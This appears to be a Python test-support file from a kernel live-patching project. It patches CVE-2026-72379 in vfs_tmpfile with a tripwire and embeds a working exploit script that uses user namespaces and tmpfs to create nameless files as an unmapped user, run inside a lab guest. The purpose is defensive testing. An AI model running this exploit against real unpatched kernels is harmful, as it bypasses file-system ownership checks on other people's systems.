# SPDX-License-Identifier: GPL-2.0-only
"""The fix of a CVE with a tripwire, and a program that exploits the fault.

CVE-2026-72379 is the sample: a user that the file system does not know could make a file without a
name (``fs: refuse O_TMPFILE creation with an unmapped fsuid or fsgid``, fs/namei.c).
Debian's 6.1.192 has the fix; its 6.12 has it already, and gets the tripwire alone.
"""

import re
from pathlib import Path
from typing import Final

import ksplicd
from ksplicd.cache import Cache
from ksplicd.distro.source import KernelSource
from ksplicd.lab.guest import Guest
from tests.support.guest.hand import Edit
from tests.support.kernels import slice as sample

KID: Final = "tmpfile1"
CVE: Final = "CVE-2026-72379"
PLACE: Final = "vfs_tmpfile: unmapped owner"
NAMEI: Final = "fs/namei.c"
INCLUDE: Final = "#include <ksplice-patch.h>\n"

# A user of the host, in a user namespace that does not know him; root has to make its mapping.
# unshare(2), mount(2): linux/sched.h
EXPLOIT: Final = """\
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
def call(name, *args):
    if getattr(libc, name)(*args):
        raise OSError(ctypes.get_errno(), name)
(ready, is_ready), (mapped, is_mapped) = os.pipe(), os.pipe()
child = os.fork()
if not child:
    os.setresgid(1000, 1000, 1000)
    os.setresuid(1000, 1000, 1000)
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    os.write(is_ready, b"x")
    os.read(mapped, 1)
    call("mount", b"none", b"/mnt", b"tmpfs", 0, b"mode=777,uid=0,gid=0")
    done = {"made": 0, "refused": 0}
    for _ in range(int(sys.argv[1])):
        try:
            os.close(os.open("/mnt", os.O_TMPFILE | os.O_RDWR, 0o600))
            done["made"] += 1
        except OSError as e:
            if e.errno != errno.EOVERFLOW:
                raise
            done["refused"] += 1
    print(*[f"{word} {number}" for word, number in done.items() if number], flush=True)
    os._exit(0)
os.read(ready, 1)
for name in ("uid_map", "gid_map"):
    with open(f"/proc/{child}/{name}", "w") as f:
        f.write("0 100000 1")
os.write(is_mapped, b"x")
sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
"""

# The daemon's way to hear, without the daemon: one JSON object a line.
LISTEN: Final = """\
import dataclasses, json, select, sys
sys.path.insert(0, "/root/lib")
from ksplicd.host.kernel.tripwire import open_listener, read_hit
listener = open_listener(sys.argv[1])
print("{}", flush=True)
while select.select([listener], [], []):
    while (data := listener.receive()) is not None:
        print(json.dumps(dataclasses.asdict(read_hit(data, listener.family_id))), flush=True)
"""


def tmpfile_edits(cache: Cache, tree: Path) -> tuple[Edit, ...]:
    """Return the fix of CVE-2026-72379 with a tripwire where it refuses."""
    function = re.compile(r"^(?:static )?int vfs_tmpfile\(.*?^\}\n", re.MULTILINE | re.DOTALL)
    old = function.search(sample.read_source(tree, NAMEI))
    newer = KernelSource(cache=cache, version=sample.NEWER).files([NAMEI])[NAMEI].decode()
    assert old is not None
    fixed = old[0]
    if "-EOVERFLOW" not in fixed:
        found = function.search(newer)
        assert found is not None
        fixed = found[0]
    refusal = "\t\treturn -EOVERFLOW;\n"
    call = f'\t\tksplice_tripwire("{CVE}", "{PLACE}");\n'
    assert fixed.count(f")\n{refusal}") == 1
    fixed = fixed.replace(f")\n{refusal}", f") {{\n{call}{refusal}\t}}\n")
    first = "#include <linux/init.h>\n"
    return Edit(NAMEI, first, first + INCLUDE), Edit(NAMEI, old[0], fixed)


def prepare(guest: Guest) -> None:
    """Bring what hits and hears into the guest."""
    ours = Path(ksplicd.__file__).parent
    for name in ("__init__.py", "errors.py", "host/__init__.py", "host/kernel/tripwire.py"):
        guest.put(f"/root/lib/ksplicd/{name}", ours / name)
    guest.put("/root/exploit.py", EXPLOIT.encode())
    guest.put("/root/listen.py", LISTEN.encode())


def exploit(guest: Guest, times: int = 1) -> str:
    """Try the fault, and return what came of it."""
    return guest.run(f"/usr/bin/python3 /root/exploit.py {times}").out.strip()
